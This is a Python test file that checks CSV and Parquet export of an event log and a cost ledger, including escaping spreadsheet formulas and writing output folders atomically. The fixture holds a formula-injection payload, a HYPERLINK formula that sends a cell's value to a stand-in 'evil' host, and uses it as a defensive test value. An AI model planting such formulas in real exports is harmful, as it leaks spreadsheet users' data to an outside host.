from __future__ import annotations

import csv
import sqlite3
from contextlib import closing
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as st

from evokd.config import Config, ConfigError
from evokd.store.event_log import EventLog
from evokd.store.events import Warned
from evokd.store.exports import FORMULA, defused, into, write_tables
from evokd.store.run_dir import RunDir

HOSTILE = '=HYPERLINK("http://evil/?"&A1,"x")'


@pytest.fixture
def run(tmp_path: Path) -> RunDir:
    task = {"labels": {"a": "", "b": ""}, "data": {"train": "t.jsonl", "test": "t.jsonl"}}
    directory = RunDir.create(tmp_path / "run", Config.model_validate({"task": task}), {"id": "x"})
    log = EventLog(directory.events)
    log.add(Warned(round=1, node=HOSTILE, text='two\nlines, "quoted" \u202e\x00 é'))
    log.close()
    with closing(sqlite3.connect(directory.ledger)) as db:  # two columns are enough to export
        db.execute("CREATE TABLE calls (seq INTEGER PRIMARY KEY, usd REAL, text TEXT)")
        db.execute("INSERT INTO calls VALUES (1, -0.5, ?), (2, NULL, NULL)", (HOSTILE,))
        db.commit()
    return directory


def test_csv_holds_every_row_and_no_formula(run: RunDir, tmp_path: Path) -> None:
    assert write_tables(run, tmp_path, "csv") == {"calls": 2, "events": 1}
    with (tmp_path / "calls.csv").open(encoding="utf-8", newline="") as file:
        rows = list(csv.reader(file))
    assert rows == [["seq", "usd", "text"], ["1", "-0.5", f"'{HOSTILE}"], ["2", "", ""]]
    with (tmp_path / "events.csv").open(encoding="utf-8", newline="") as file:
        (event,) = csv.DictReader(file)
    assert event["node"] == f"'{HOSTILE}"
    assert Warned.model_validate_json(event["body"]).text.startswith("two\nlines")


def test_parquet_holds_every_value_as_it_was(run: RunDir, tmp_path: Path) -> None:
    assert write_tables(run, tmp_path, "parquet") == {"calls": 2, "events": 1}
    calls = pq.read_table(tmp_path / "calls.parquet").to_pylist()
    assert calls == [
        {"seq": 1, "usd": -0.5, "text": HOSTILE},
        {"seq": 2, "usd": None, "text": None},
    ]


def test_a_run_without_databases_gives_nothing(run: RunDir, tmp_path: Path) -> None:
    run.events.unlink()
    run.ledger.unlink()
    assert write_tables(run, tmp_path, "csv") == {}


@given(st.text())
def test_a_defused_text_is_no_formula_and_comes_back(text: str) -> None:
    cell = defused(text)
    assert not cell.lstrip(" ").startswith(FORMULA)
    assert text == (cell[1:] if cell != text else cell)
    assert defused(f"={text}") == f"'={text}"
    assert defused(f"'={text}") == f"''={text}"


def test_numbers_stay_numbers() -> None:
    assert [defused(value) for value in (-1, -0.5, None)] == [-1, -0.5, None]


def test_a_folder_is_made_whole_or_not_at_all(tmp_path: Path) -> None:
    def half(folder: Path) -> None:
        (folder / "a").write_text("a", encoding="utf-8")
        raise ConfigError("no")

    with pytest.raises(ConfigError, match="no"):
        into(tmp_path / "out", half)
    assert list(tmp_path.iterdir()) == []
    (tmp_path / "out").mkdir()
    into(tmp_path / "out", lambda folder: None)
    (tmp_path / "out" / "mine").write_text("a", encoding="utf-8")
    with pytest.raises(ConfigError, match="not empty"):
        into(tmp_path / "out", lambda folder: None)
    with pytest.raises(ConfigError, match="can't be written"):
        into(tmp_path / "out" / "mine" / "deeper", lambda folder: None)
